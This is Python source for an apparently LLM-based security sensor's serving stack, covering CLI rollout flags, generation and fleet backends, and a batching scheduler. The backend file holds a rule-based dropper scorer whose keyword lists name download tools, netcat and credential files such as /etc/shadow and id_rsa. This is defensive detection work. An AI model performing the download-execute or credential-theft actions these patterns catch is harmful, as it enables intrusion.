                         "CHRONOS_DEGRADE=0|1 overrides the flag")
    ap.add_argument("--autoscale", action=argparse.BooleanOptionalAction,
                    default=False,
                    help="with --fleet: burn-rate autoscaler — sustained "
                         "firing SLOs grow the fleet (new replicas are "
                         "AOT-warmed before joining), sustained quiet "
                         "shrinks it via drain + chain migration, within "
                         "[--autoscale-min, --autoscale-max].  "
                         "CHRONOS_AUTOSCALE=0|1 overrides the flag")
    ap.add_argument("--autoscale-min", type=int, default=1,
                    help="autoscaler floor (replicas; CHRONOS_AUTOSCALE_"
                         "MIN overrides)")
    ap.add_argument("--autoscale-max", type=int, default=4,
                    help="autoscaler ceiling (replicas; CHRONOS_AUTOSCALE_"
                         "MAX overrides)")
    ap.add_argument("--slo", default="1",
                    help="fleet SLO engine (with --fleet): '1'/'default' "
                         "evaluates the built-in objectives (spill rate, "
                         "unrouteable rate, verdict errors, affinity hit "
                         "rate, p99 TTFV) with multi-window burn-rate "
                         "alerts served at /fleet/alerts; '0' disables; "
                         "anything else is a path to a JSON list of "
                         "SLOSpec rows (docs/OPERATIONS.md).  CHRONOS_SLO "
                         "overrides the flag")
    args = ap.parse_args(argv)

    if args.platform:
        jax.config.update("jax_platforms", args.platform)
    if args.virtual_devices:
        flags = os.environ.get("XLA_FLAGS", "")
        if "xla_force_host_platform_device_count" not in flags:
            os.environ["XLA_FLAGS"] = (
                flags
                + f" --xla_force_host_platform_device_count={args.virtual_devices}"
            ).strip()

    # env override for fleet rollouts/rollbacks without editing unit
    # files: CHRONOS_SPEC=0 kills speculation even if the command line
    # says --spec (and =1 forces it past --no-spec)
    env_spec = os.environ.get("CHRONOS_SPEC")
    if env_spec is not None:
        args.spec = env_spec.strip().lower() not in (
            "", "0", "false", "no", "off"
        )
    # same rollout/rollback lever for quantization: CHRONOS_QUANT=0
    # flips a fleet back to bf16 without editing unit files (restart
    # required — weights are transformed at load); =int8 (or any truthy)
    # forces int8 past a --no-quant command line
    args.quant = resolve_quant(args.quant, os.environ.get("CHRONOS_QUANT"))
    # fleet rollout lever: CHRONOS_FLEET=N turns a single-replica unit
    # file into an N-replica fleet behind the router (and =0 collapses
    # it back) without editing the command line
    env_fleet = os.environ.get("CHRONOS_FLEET")
    if env_fleet is not None:
        try:
            args.fleet = int(env_fleet.strip() or "0")
        except ValueError:
            log_event(LOG, "bad_env_fleet", value=env_fleet)
    # cascade rollout levers (PR 16): CHRONOS_CASCADE=N fronts the fleet
    # with N 1B triage replicas (=0 collapses back to untiered) and
    # CHRONOS_ESCALATE_RISK retunes the 8B escalation threshold, both
    # without unit-file edits
    env_cascade = os.environ.get("CHRONOS_CASCADE")
    if env_cascade is not None:
        try:
            args.cascade = int(env_cascade.strip() or "0")
        except ValueError:
            log_event(LOG, "bad_env_cascade", value=env_cascade)
    env_escalate = os.environ.get("CHRONOS_ESCALATE_RISK")
    if env_escalate is not None:
        try:
            args.escalate_risk = int(env_escalate.strip())
        except ValueError:
            log_event(LOG, "bad_env_escalate_risk", value=env_escalate)
    # same lever for burn-rate alerting: CHRONOS_SLO=0 silences the SLO
    # engine fleet-wide, =path swaps the objective set without editing
    # the command line (parsed by obs.slo.load_slos in _serve_fleet)
    env_slo = os.environ.get("CHRONOS_SLO")
    if env_slo is not None:
        args.slo = env_slo
    # tail-tolerance levers (PR 10): CHRONOS_HEDGE=1 turns hedging on
    # fleet-wide mid-incident, CHRONOS_DEGRADE=0 pins full service (shed
    # with 429 instead of browning out) for an A/B or a debugging run,
    # CHRONOS_PROBE_INTERVAL retunes the health loop without unit edits
    env_hedge = os.environ.get("CHRONOS_HEDGE")
    if env_hedge is not None:
        args.hedge = env_hedge.strip().lower() not in (
            "", "0", "false", "no", "off"
        )
    # semcache rollout/rollback lever: CHRONOS_SEMCACHE=1 turns tier-0
    # on fleet-wide (and =0 rolls it back instantly — e.g. on a
    # suspected poisoning, see the OPERATIONS runbook) without editing
    # unit files
    env_semcache = os.environ.get("CHRONOS_SEMCACHE")
    if env_semcache is not None:
        args.semcache = env_semcache.strip().lower() not in (
            "", "0", "false", "no", "off"
        )
    env_degrade = os.environ.get("CHRONOS_DEGRADE")
    if env_degrade is not None:
        args.degrade = env_degrade.strip().lower() not in (
            "", "0", "false", "no", "off"
        )
    env_probe = os.environ.get("CHRONOS_PROBE_INTERVAL")
    if env_probe is not None:
        try:
            args.probe_interval = float(env_probe.strip())
        except ValueError:
            log_event(LOG, "bad_env_probe_interval", value=env_probe)
    # elastic-capacity lever (PR 14): CHRONOS_AUTOSCALE=1 turns the
    # burn-rate autoscaler on fleet-wide (and =0 pins capacity) without
    # unit-file edits; MIN/MAX retune the bounds the same way
    env_autoscale = os.environ.get("CHRONOS_AUTOSCALE")
    if env_autoscale is not None:
        args.autoscale = env_autoscale.strip().lower() not in (
            "", "0", "false", "no", "off"
        )
    for env_key, attr in (("CHRONOS_AUTOSCALE_MIN", "autoscale_min"),
                          ("CHRONOS_AUTOSCALE_MAX", "autoscale_max")):
        raw = os.environ.get(env_key)
        if raw is not None:
            try:
                setattr(args, attr, int(raw.strip()))
            except ValueError:
                log_event(LOG, "bad_env_autoscale_bound",
                          key=env_key, value=raw)

    from chronos_trn.utils import trace as trace_lib
    trace_lib.GLOBAL.enabled = bool(args.trace)
    trace_lib.GLOBAL.set_capacity(args.trace_capacity)

    # step-profiler cadence: env wins (the flag's None default defers to
    # CHRONOS_PROFILE / the 1/64 built-in, same precedence as the trace
    # knobs above)
    from chronos_trn.obs import perf as perf_lib
    if "CHRONOS_PROFILE" in os.environ:
        perf_lib.PROFILER.set_sample(perf_lib.sample_every_from_env())
    elif args.profile_sample is not None:
        perf_lib.PROFILER.set_sample(args.profile_sample)

    if args.fleet >= 2 or (args.fleet >= 1 and args.cascade > 0):
        # a cascade needs the router even at one 8B replica: the tiered
        # fleet is 8B escalation pool + 1B triage front line
        return _serve_fleet(args)

    backend, sched = build_backend(args)
    if args.profile_dir:
        jax.profiler.start_trace(args.profile_dir)
        log_event(LOG, "profiling", dir=args.profile_dir)
    if not args.no_warmup:
        log_event(LOG, "warmup_begin")
        backend.warmup()
        log_event(LOG, "warmup_done")
    elif sched is not None:
        # the operator opted out of warmup: report ready immediately and
        # let the first request eat compile time
        sched.warmed = True

    from chronos_trn.config import DegradeConfig
    server = ChronosServer(backend, ServerConfig(
        host=args.host, port=args.port, model_name=args.model_name,
        max_queue_depth=args.max_queue_depth,
        retry_after_s=args.retry_after,
        request_timeout_s=args.request_timeout,
        drain_timeout_s=args.drain_timeout,
    ), degrade_cfg=DegradeConfig(enabled=args.degrade))
    server.start()
    log_event(LOG, "ready", port=server.port, backend=args.backend, model=args.model)
    try:
        import threading
        threading.Event().wait()
    except KeyboardInterrupt:
        pass
    finally:
        if args.profile_dir:
            try:
                jax.profiler.stop_trace()
            except Exception:
                pass  # chronoslint: disable=CHR005(shutdown-path profiler teardown; stop_trace raises if no trace is active and must not mask the real exit reason)
        server.stop()
        if sched is not None:
            sched.stop()


if __name__ == "__main__":
    sys.exit(main())
