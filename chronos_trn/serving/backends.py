"""Generation backends behind the Ollama wire protocol.

* :class:`ModelBackend` — the real path: continuous-batching scheduler
  over the JAX Llama engine.
* :class:`HeuristicBackend` — a deterministic kill-chain analyst with the
  same interface.  SURVEY.md §4 mandates a "fake brain" behind the exact
  /api/generate contract for sensor/scheduler tests and for CI machines
  with no model weights; it scores event chains with the same MITRE
  T1105 dropper logic the reference's prompt hints at
  (chronos_sensor.py:112) and emits the verdict JSON schema.
* :class:`RemoteBackend` — the fleet router's client view of one replica
  over HTTP: Ollama wire passthrough plus per-backend circuit-breaker
  state, a Retry-After gate, an in-flight counter, and readiness
  probing (chronos_trn.fleet.router consumes these).
"""
from __future__ import annotations

import json
import queue
import re
import threading
import time
from typing import Optional

from chronos_trn.serving.scheduler import GenOptions, Request, Scheduler
from chronos_trn.utils.trace import GLOBAL as TRACER, TraceContext


class ModelBackend:
    def __init__(self, scheduler: Scheduler, model_name: str = "llama3"):
        self.scheduler = scheduler
        self.model_name = model_name

    def submit(
        self, prompt: str, options: GenOptions,
        deadline: Optional[float] = None,
        trace_ctx: Optional[TraceContext] = None,
    ) -> Request:
        return self.scheduler.submit(prompt, options, deadline=deadline,
                                     trace_ctx=trace_ctx)

    def warmup(self):
        self.scheduler.warmup()

    # ---- resilience surface (admission control / drain / readiness) ----
    def queue_depth(self) -> int:
        return self.scheduler.queue_depth()

    def inflight_count(self) -> int:
        return self.scheduler.inflight_count()

    def ready(self) -> bool:
        return bool(getattr(self.scheduler, "warmed", False))


# --- deterministic analyst -------------------------------------------------
_DOWNLOADERS = ("curl", "wget", "ftp", "tftp", "scp")
_PERM = ("chmod", "chown", "setfacl")
_EXEC_HINTS = ("bash", "sh", "exec", "./", "python", "perl", "nc", "cat")
_SENSITIVE = ("/etc/passwd", "/etc/shadow", ".ssh", "id_rsa", "authorized_keys")
_SUSPICIOUS_PATHS = ("/tmp/", "/dev/shm/", "/var/tmp/")


def score_chain(text: str, tier: Optional[str] = None) -> dict:
    """Rule-based kill-chain scorer over an event-chain description.

    Stage logic (MITRE T1105 ingress-tool-transfer into execution):
    download -> permission change -> execution of the same artifact is the
    classic dropper; each observed stage raises the risk.

    ``tier="1b"`` emulates the triage front line: recall-biased — any
    observed evidence scores one point hotter than the reference scorer,
    so everything the 8B analyst would flag crosses the cascade's
    ``escalate_risk`` gate (false positives cost one escalation; false
    negatives cost a missed kill chain)."""
    t = text.lower()
    stages = []
    if any(d in t for d in _DOWNLOADERS):
        stages.append("download")
    if any(p in t for p in _PERM):
        stages.append("permission-change")
    if any(e in t for e in _EXEC_HINTS):
        stages.append("execution")
    sensitive = any(s in t for s in _SENSITIVE)
    susp_path = any(s in t for s in _SUSPICIOUS_PATHS)

    risk = 0
    reason = "No suspicious sequence observed."
    if len(stages) >= 3 or (len(stages) >= 2 and susp_path):
        risk = 9 if sensitive or susp_path else 8
        reason = (
            "Dropper kill chain: "
            + " -> ".join(stages)
            + (" targeting a staging path" if susp_path else "")
            + ". Matches MITRE T1105 ingress tool transfer."
        )
    elif len(stages) == 2:
        risk = 6
        reason = "Partial kill chain (" + " -> ".join(stages) + "); likely staging."
    elif sensitive:
        risk = 7
        reason = "Access to credential material."
    elif stages:
        risk = 2
        reason = f"Single benign-looking {stages[0]} event."
    if tier == "1b" and risk > 0:
        risk = min(10, risk + 1)
        reason = "Triage: " + reason
    verdict = "MALICIOUS" if risk > 5 else "SAFE"
    return {"risk_score": risk, "verdict": verdict, "reason": reason}


# --- fleet replica client --------------------------------------------------
class RemoteBackend:
    """One replica as the router sees it: an HTTP client plus the state
    the routing decision needs (breaker, Retry-After gate, in-flight
    count, membership flags).

    Failure accounting mirrors the sensor's classification: a transport
    error or 5xx (including 503 — the replica is draining/rebuilding and
    refusing work) is a breaker failure; any other answered status is a
    breaker success — the replica is alive, even a 429 (which instead
    arms the Retry-After gate so the router stops offering it work for
    the advertised window).  Treating 429 as success also matters in
    HALF_OPEN: the probe slot must be released or the breaker wedges.
    """

    def __init__(
        self,
        name: str,
        base_url: str,
        transport=None,
        breaker=None,
        failure_threshold: int = 3,
        open_duration_s: float = 5.0,
        request_timeout_s: float = 120.0,
        probe_timeout_s: float = 2.0,
        clock=time.monotonic,
        tier: Optional[str] = None,
    ):
        from chronos_trn.sensor.resilience import (
            CircuitBreaker,
            UrllibTransport,
        )
        from chronos_trn.utils.metrics import sanitize_name

        self.name = name
        self.base_url = base_url.rstrip("/")
        # model tier this replica serves ("1b" | "8b" | None = untiered).
        # The router's cascade activates only when both tiers are present.
        self.tier = tier
        self.transport = transport if transport is not None else UrllibTransport()
        self.breaker = breaker or CircuitBreaker(
            failure_threshold=failure_threshold,
            open_duration_s=open_duration_s,
            clock=clock,
            name=f"fleet_breaker_{sanitize_name(name)}",
        )
        self.request_timeout_s = float(request_timeout_s)
        self.probe_timeout_s = float(probe_timeout_s)
        self._clock = clock
        # membership flags, owned by the router (prober / drain admin)
        self.up = True
        self.draining = False
        self._lock = threading.Lock()
        self._inflight = 0
        self._retry_after_until = 0.0
        # last parsed /healthz/ready body (fleet prefix-cache directory:
        # the replica piggybacks its resident chain keys on the probe)
        self.last_ready_info: dict = {}

    # -- admission view ---------------------------------------------------
    def allow(self) -> bool:
        """May the router dispatch to this replica right now?  Checked
        retry-gate-first so a backpressured replica does not consume the
        breaker's single half-open probe slot."""
        with self._lock:
            gated = self._clock() < self._retry_after_until
        if gated:
            return False
        return self.breaker.allow()

    def note_retry_after(self, header_value, default_s: float = 1.0) -> None:
        try:
            seconds = float(header_value)
        except (TypeError, ValueError):
            seconds = default_s
        with self._lock:
            self._retry_after_until = max(
                self._retry_after_until, self._clock() + max(0.0, seconds)
            )

    def queue_depth(self) -> int:
        """Router-side proxy: requests this router has in flight to the
        replica (no replica introspection on the routing path)."""
        with self._lock:
            return self._inflight

    def inflight_count(self) -> int:
        return self.queue_depth()

    # -- dispatch ---------------------------------------------------------
    def post_generate(self, payload: dict, headers=None):
        return self.post_forward("/api/generate", payload, headers=headers)

    def post_forward(self, path: str, payload: dict, headers=None):
        """POST ``payload`` to the replica; returns (status, headers,
        body).  Raises TransportError (after recording the breaker
        failure) on connection-level death."""
        from chronos_trn.sensor.resilience import TransportError

        with self._lock:
            self._inflight += 1
        try:
            status, hdrs, body = self.transport.post_json(
                self.base_url + path, payload, self.request_timeout_s,
                headers=headers,
            )
        except TransportError:
            self.breaker.record_failure()
            raise
        finally:
            with self._lock:
                self._inflight -= 1
        if status >= 500:
            self.breaker.record_failure()
        else:
            self.breaker.record_success()
            if status == 429:
                self.note_retry_after(
                    {k.lower(): v for k, v in hdrs.items()}.get("retry-after")
                )
        return status, hdrs, body

    # -- health -----------------------------------------------------------
    def probe_ready(self) -> bool:
        """GET /healthz/ready — 200 means routable.  Pure observation:
        the prober owns the ``up`` flag, and probe failures never touch
        the breaker (a warming replica is not a *sick* replica).  The
        JSON body (resident-chain summary for the fleet prefix-cache
        directory) is stashed in ``last_ready_info`` — piggybacked on
        the probe so the directory costs zero extra RTTs."""
        import urllib.request

        try:
            with urllib.request.urlopen(
                self.base_url + "/healthz/ready", timeout=self.probe_timeout_s
            ) as resp:
                ok = resp.status == 200
                try:
                    info = json.loads(resp.read().decode("utf-8"))
                    if isinstance(info, dict):
                        self.last_ready_info = info
                except (ValueError, UnicodeDecodeError):
                    pass  # older replica / non-JSON body: keep last info
                return ok
        except Exception:
            return False

    # -- migration transport (fleet/migrate.py wire) ----------------------
    def export_chains(self, keys=None, limit: int = 64):
        """POST /cache/export; returns ``(migration_id, payload_bytes)``
        or ``(None, b"")`` when the replica has nothing/answers non-200.
        Raises on transport death (caller falls back to cold re-home)."""
        import urllib.request

        body = json.dumps(
            {"chains": list(keys)} if keys else {"limit": int(limit)}
        ).encode("utf-8")
        req = urllib.request.Request(
            self.base_url + "/cache/export", data=body,
            headers={"Content-Type": "application/json"}, method="POST",
        )
        with urllib.request.urlopen(
            req, timeout=self.request_timeout_s
        ) as resp:
            if resp.status != 200:
                return None, b""
            mig_id = resp.headers.get("X-Chronos-Migration-Id")
            return mig_id, resp.read()

    def import_chains(self, payload: bytes) -> dict:
        """POST a CHRMIG payload to /cache/import; returns the parsed
        result dict.  Raises on transport death or a non-200 answer
        (including a 400 digest rejection) — the caller treats any raise
        as migration failure and degrades to cold re-prefill."""
        import urllib.request

        req = urllib.request.Request(
            self.base_url + "/cache/import", data=bytes(payload),
            headers={"Content-Type": "application/octet-stream"},
            method="POST",
        )
        with urllib.request.urlopen(
            req, timeout=self.request_timeout_s
        ) as resp:
            if resp.status != 200:
                raise RuntimeError(f"import answered {resp.status}")
            return json.loads(resp.read().decode("utf-8"))

    def release_export(self, migration_id: str) -> bool:
        """POST /cache/release (ack/abort): unpin the exported pages on
        the source.  Best-effort — a dead source has nothing to unpin."""
        import urllib.request

        try:
            req = urllib.request.Request(
                self.base_url + "/cache/release",
                data=json.dumps({"migration_id": migration_id}).encode(),
                headers={"Content-Type": "application/json"}, method="POST",
            )
            with urllib.request.urlopen(
                req, timeout=self.probe_timeout_s
            ) as resp:
                return resp.status == 200
        except Exception:
            return False


class HeuristicBackend:
    """Deterministic scorer with the Request interface (instant result).

    ``tier`` selects the scoring persona: ``"1b"`` is the recall-biased
    triage scorer (see :func:`score_chain`); anything else scores with
    the reference analyst logic."""

    def __init__(self, model_name: str = "llama3",
                 tier: Optional[str] = None):
        self.model_name = model_name
        self.tier = tier

    def submit(
        self, prompt: str, options: GenOptions,
        deadline: Optional[float] = None,
        trace_ctx: Optional[TraceContext] = None,
    ) -> Request:
        req = Request(prompt=prompt, options=options, deadline=deadline,
                      trace=trace_ctx)
        t_score = time.monotonic()
        verdict = score_chain(prompt, tier=self.tier)
        if options.format_json:
            text = json.dumps(verdict)
        else:
            text = (
                f"Risk {verdict['risk_score']}/10 ({verdict['verdict']}): "
                + verdict["reason"]
            )
        req.text = text
        req.prompt_eval_count = len(prompt.split())
        req.eval_count = len(text.split())
        req.ttft_s = 0.0
        req.deltas.put(text)
        req.deltas.put(None)
        req.done.set()
        if trace_ctx is not None:
            TRACER.record(
                "heuristic.score", trace_ctx.trace_id, trace_ctx.span_id,
                t_score, time.monotonic(),
                attrs={"risk": verdict["risk_score"]},
            )
        return req

    def warmup(self):
        pass

    def queue_depth(self) -> int:
        return 0  # answers inline; nothing ever queues

    def inflight_count(self) -> int:
        return 0

    def ready(self) -> bool:
        return True
