"""Generation backends behind the Ollama wire protocol.

* :class:`ModelBackend` — the real path: continuous-batching scheduler
  over the JAX Llama engine.
* :class:`HeuristicBackend` — a deterministic kill-chain analyst with the
  same interface.  SURVEY.md §4 mandates a "fake brain" behind the exact
  /api/generate contract for sensor/scheduler tests and for CI machines
  with no model weights; it scores event chains with the same MITRE
  T1105 dropper logic the reference's prompt hints at
  (chronos_sensor.py:112) and emits the verdict JSON schema.
"""
from __future__ import annotations

import json
import queue
import re
import threading
import time
from typing import Optional

from chronos_trn.serving.scheduler import GenOptions, Request, Scheduler
from chronos_trn.utils.trace import GLOBAL as TRACER, TraceContext


class ModelBackend:
    def __init__(self, scheduler: Scheduler, model_name: str = "llama3"):
        self.scheduler = scheduler
        self.model_name = model_name

    def submit(
        self, prompt: str, options: GenOptions,
        deadline: Optional[float] = None,
        trace_ctx: Optional[TraceContext] = None,
    ) -> Request:
        return self.scheduler.submit(prompt, options, deadline=deadline,
                                     trace_ctx=trace_ctx)

    def warmup(self):
        self.scheduler.warmup()

    # ---- resilience surface (admission control / drain / readiness) ----
    def queue_depth(self) -> int:
        return self.scheduler.queue_depth()

    def inflight_count(self) -> int:
        return self.scheduler.inflight_count()

    def ready(self) -> bool:
        return bool(getattr(self.scheduler, "warmed", False))


# --- deterministic analyst -------------------------------------------------
_DOWNLOADERS = ("curl", "wget", "ftp", "tftp", "scp")
_PERM = ("chmod", "chown", "setfacl")
_EXEC_HINTS = ("bash", "sh", "exec", "./", "python", "perl", "nc", "cat")
_SENSITIVE = ("/etc/passwd", "/etc/shadow", ".ssh", "id_rsa", "authorized_keys")
_SUSPICIOUS_PATHS = ("/tmp/", "/dev/shm/", "/var/tmp/")


def score_chain(text: str) -> dict:
    """Rule-based kill-chain scorer over an event-chain description.

    Stage logic (MITRE T1105 ingress-tool-transfer into execution):
    download -> permission change -> execution of the same artifact is the
    classic dropper; each observed stage raises the risk."""
    t = text.lower()
    stages = []
    if any(d in t for d in _DOWNLOADERS):
        stages.append("download")
    if any(p in t for p in _PERM):
        stages.append("permission-change")
    if any(e in t for e in _EXEC_HINTS):
        stages.append("execution")
    sensitive = any(s in t for s in _SENSITIVE)
    susp_path = any(s in t for s in _SUSPICIOUS_PATHS)

    risk = 0
    reason = "No suspicious sequence observed."
    if len(stages) >= 3 or (len(stages) >= 2 and susp_path):
        risk = 9 if sensitive or susp_path else 8
        reason = (
            "Dropper kill chain: "
            + " -> ".join(stages)
            + (" targeting a staging path" if susp_path else "")
            + ". Matches MITRE T1105 ingress tool transfer."
        )
    elif len(stages) == 2:
        risk = 6
        reason = "Partial kill chain (" + " -> ".join(stages) + "); likely staging."
    elif sensitive:
        risk = 7
        reason = "Access to credential material."
    elif stages:
        risk = 2
        reason = f"Single benign-looking {stages[0]} event."
    verdict = "MALICIOUS" if risk > 5 else "SAFE"
    return {"risk_score": risk, "verdict": verdict, "reason": reason}


class HeuristicBackend:
    """Deterministic scorer with the Request interface (instant result)."""

    def __init__(self, model_name: str = "llama3"):
        self.model_name = model_name

    def submit(
        self, prompt: str, options: GenOptions,
        deadline: Optional[float] = None,
        trace_ctx: Optional[TraceContext] = None,
    ) -> Request:
        req = Request(prompt=prompt, options=options, deadline=deadline,
                      trace=trace_ctx)
        t_score = time.monotonic()
        verdict = score_chain(prompt)
        if options.format_json:
            text = json.dumps(verdict)
        else:
            text = (
                f"Risk {verdict['risk_score']}/10 ({verdict['verdict']}): "
                + verdict["reason"]
            )
        req.text = text
        req.prompt_eval_count = len(prompt.split())
        req.eval_count = len(text.split())
        req.ttft_s = 0.0
        req.deltas.put(text)
        req.deltas.put(None)
        req.done.set()
        if trace_ctx is not None:
            TRACER.record(
                "heuristic.score", trace_ctx.trace_id, trace_ctx.span_id,
                t_score, time.monotonic(),
                attrs={"risk": verdict["risk_score"]},
            )
        return req

    def warmup(self):
        pass

    def queue_depth(self) -> int:
        return 0  # answers inline; nothing ever queues

    def inflight_count(self) -> int:
        return 0

    def ready(self) -> bool:
        return True
