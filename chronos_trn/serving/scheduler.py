"""Continuous-batching scheduler.

This is the trn-native reincarnation of the reference sensor's per-PID
buffer + blocking HTTP call (SURVEY.md §3.3): where the reference stalls
its perf-buffer poll loop for up to 30 s per verdict
(chronos_sensor.py:117-119), here many in-flight requests share one
decode batch — new requests are admitted (prefilled) between decode
steps, finished ones leave, and the batch never drains while work
remains (config 3 of BASELINE.json: 64 concurrent sensor streams).

Sampling runs host-side so the JSON grammar constrainer
(core.json_constrain) can mask logits per-slot; the device graph is the
same whether a slot is constrained or not.
"""
from __future__ import annotations

import json
import os
import queue
import threading
import time
from dataclasses import dataclass, field
from typing import Dict, Optional

import numpy as np

from chronos_trn.config import EngineConfig
from chronos_trn.core.json_constrain import JsonConstrainer
from chronos_trn.core.kvcache import PageAllocator
from chronos_trn.serving.engine import (
    EnginePoisoned,
    EngineSuperseded,
    InferenceEngine,
)
from chronos_trn.spec import Draft, SpecDecoder
from chronos_trn.spec.accept import accept_candidates
from chronos_trn.utils.metrics import GLOBAL as METRICS
from chronos_trn.utils.trace import GLOBAL as TRACER, TraceContext
from chronos_trn.utils.structlog import get_logger, log_event

LOG = get_logger("scheduler")


class NonFiniteLogits(ValueError):
    """A slot's logits contained NaN (or nothing sampleable): the
    request is failed with a structured error instead of letting NaN
    reach argsort/rng.choice and kill or corrupt the whole batch."""


@dataclass
class GenOptions:
    max_new_tokens: int = 256
    temperature: float = 0.0
    top_p: float = 1.0
    format_json: bool = False
    seed: Optional[int] = None
    stop: tuple = ()


@dataclass
class Request:
    prompt: str
    options: GenOptions
    submitted_at: float = field(default_factory=time.monotonic)
    # absolute (monotonic) completion deadline: queued requests that
    # expire are dropped at admission instead of burning prefill
    deadline: Optional[float] = None
    # per-delta wait bound for stream consumers (stamped from
    # EngineConfig.stream_delta_timeout_s at submit)
    delta_timeout_s: float = 300.0
    # outputs
    deltas: "queue.Queue[Optional[str]]" = field(default_factory=queue.Queue)
    done: threading.Event = field(default_factory=threading.Event)
    cancelled: threading.Event = field(default_factory=threading.Event)
    text: str = ""
    error: Optional[str] = None
    # failure taxonomy for clients/tests: "slot_failure" (this request
    # alone), "quarantined" (poison input, permanently failed),
    # "replay_failed", or None for success / legacy error paths
    error_kind: Optional[str] = None
    # engine rebuilds this request has ridden (replay = re-prefill of
    # prompt + committed output); bounded by EngineConfig.max_replays
    replays: int = 0
    ttft_s: Optional[float] = None
    eval_count: int = 0
    prompt_eval_count: int = 0
    # trace context (trace_id, span_id) of the server.generate span this
    # request belongs to; scheduler stages hang child spans off it.
    # None (untraced) costs nothing in the decode loop.
    trace: Optional[TraceContext] = None
    # ---- verdict provenance (semcache tier-0) -------------------------
    # "llm" = the model decoded this answer; "semcache" = tier-0
    # answered from a benign-consensus neighborhood and decode never
    # ran.  The server stamps this into the envelope (CHR019: any
    # verdict that skipped the LLM forward must say so).
    source: str = "llm"
    sem_score: Optional[float] = None   # top-1 cosine of the lookup
    sem_agree: int = 0                  # consensus neighbors counted
    # tier-0 hard rule fired: the chain sits near known-MALICIOUS rows,
    # so the cascade MUST judge it (router risk gate reads this)
    sem_escalate: bool = False

    def cancel(self) -> None:
        """Ask the scheduler to abandon this request (e.g. the HTTP
        client disconnected).  Takes effect at the next step/chunk
        boundary: the slot and its pages are freed instead of decoding
        to completion.  Safe to call from any thread, idempotent."""
        self.cancelled.set()

    def result(self, timeout: Optional[float] = None) -> str:
        if not self.done.wait(timeout):
            raise TimeoutError("generation did not finish in time")
        if self.error:
            raise RuntimeError(self.error)
        return self.text

    def iter_deltas(self, timeout: Optional[float] = None):
        """Yield stream deltas.  The per-delta wait defaults to the
        config-stamped ``delta_timeout_s``, further bounded by the
        request deadline when one is set."""
        while True:
            per_get = timeout if timeout is not None else self.delta_timeout_s
            if self.deadline is not None:
                per_get = min(
                    per_get, max(self.deadline - time.monotonic(), 0.001)
                )
            d = self.deltas.get(timeout=per_get)
            if d is None:
                return
            yield d


class _SlotState:
    def __init__(
        self,
        seq_id: int,
        req: Request,
        tokenizer,
        next_token: int,
        max_new: Optional[int] = None,
        prompt_ids: Optional[list] = None,
    ):
        self.seq_id = seq_id
        self.req = req
        # prefilled token ids, kept for engine-rebuild replay: the
        # replay prefills prompt_ids + out_ids so the request resumes
        # exactly where the crash interrupted it
        self.prompt_ids: list = list(prompt_ids or [])
        self.out_ids: list = []
        self.next_token = next_token  # sampled, not yet fed to decode
        # context-clamped token budget lives here, NOT on req.options —
        # a GenOptions object may be reused across submits by the caller
        self.max_new = max_new if max_new is not None else req.options.max_new_tokens
        self.constrainer: Optional[JsonConstrainer] = None
        if req.options.format_json:
            self.constrainer = JsonConstrainer(tokenizer, require_object=False)
        seed = req.options.seed
        # unseeded requests must NOT share a stream (Ollama semantics:
        # repeats of the same prompt vary) — entropy-seed each one
        self.rng = (
            np.random.default_rng(seed) if seed is not None else np.random.default_rng()
        )
        # device-side sampling stream for the fused decode path
        self.device_seed = (
            int(seed) if seed is not None else int.from_bytes(os.urandom(4), "little") >> 1
        )
        self.dfa_state = 0  # device JSON-DFA state (0 = unconstrained)
        self.emitted_upto = 0  # ids already flushed as stream deltas
        # speculative draft state (chronos_trn.spec.SlotDraftState) when
        # spec decoding is on; derived only from committed tokens, so it
        # rides engine rebuild+replay untouched
        self.spec = None
        # semcache miss path: the chain embedding captured at prefill,
        # inserted with the verdict when this request finishes clean
        self.embedding: Optional[np.ndarray] = None


class Scheduler:
    """Owns the engine worker thread; thread-safe submit()."""

    def __init__(self, engine: InferenceEngine, tokenizer, engine_cfg: EngineConfig,
                 semcache=None, semcache_tier: str = "llm"):
        self.engine = engine
        self.tok = tokenizer
        self.cfg = engine_cfg
        # semantic triage cache (chronos_trn.semcache.SemCache) — tier-0
        # in front of the cascade.  When set, the engine computes chain
        # embeddings on full prefills (collect_pooled) and _admit
        # consults the cache before decode ever starts; _finish inserts
        # (embedding, verdict) on the way back.
        self.semcache = semcache
        self.semcache_tier = semcache_tier
        if semcache is not None:
            engine.collect_pooled = True
        if getattr(engine, "fused_enabled", False):
            engine.set_stop_ids(tokenizer.stop_ids)
            if engine_cfg.device_dfa and not engine.has_dfa:
                t0 = time.monotonic()
                try:
                    from chronos_trn.core.json_dfa import build_token_dfa

                    # mask width must match the MODEL's logits, which can
                    # exceed the tokenizer vocab (stock Llama-3: 128256
                    # logits vs 128011 tokenizer ids)
                    engine.set_dfa(build_token_dfa(
                        tokenizer, model_vocab_size=engine.mcfg.vocab_size
                    ))
                    log_event(
                        LOG, "device_dfa_built",
                        seconds=round(time.monotonic() - t0, 2),
                    )
                except Exception as e:  # fused JSON falls back to per-step
                    log_event(LOG, "device_dfa_failed", error=str(e))
        # speculative decoding (chronos_trn.spec): draft-and-verify on
        # the per-step path.  The fused device path still wins when
        # eligible (_can_fuse) — spec covers the rounds that would
        # otherwise decode one token per dispatch: --paged serving, the
        # staged-warmup window, constrained slots without a device DFA.
        self._spec: Optional[SpecDecoder] = (
            SpecDecoder(engine_cfg, tokenizer)
            if engine_cfg.spec_decode else None
        )
        self._queue: "queue.Queue[Request]" = queue.Queue()
        self._slots: Dict[int, _SlotState] = {}  # slot index -> state
        self._next_seq = 0
        self._running = False
        self._thread: Optional[threading.Thread] = None
        self._wake = threading.Event()
        self.warmed = False  # readiness signal for /healthz/ready
        # ---- self-healing state ---------------------------------------
        self._supervisor: Optional[threading.Thread] = None
        self._stop_evt = threading.Event()
        # serializes rebuild+replay between a worker healing inline and
        # the supervisor healing after a death/stall
        self._heal_lock = threading.Lock()
        self._healthy = True  # False while rebuilding/replaying
        self._last_progress = time.monotonic()  # worker heartbeat
        # admin closures (migration export/import) run ON the worker
        # thread between batches — the engine is single-threaded by
        # contract, so HTTP handlers must not touch it directly
        self._admin: "queue.Queue" = queue.Queue()
        METRICS.gauge("sched_healthy", 1.0)

    # ---- public API ----------------------------------------------------
    def submit(
        self,
        prompt: str,
        options: Optional[GenOptions] = None,
        deadline: Optional[float] = None,
        trace_ctx: Optional[TraceContext] = None,
    ) -> Request:
        req = Request(
            prompt=prompt,
            options=options or GenOptions(),
            deadline=deadline,
            delta_timeout_s=self.cfg.stream_delta_timeout_s,
            trace=trace_ctx,
        )
        self._queue.put(req)
        self._wake.set()
        METRICS.inc("requests_submitted")
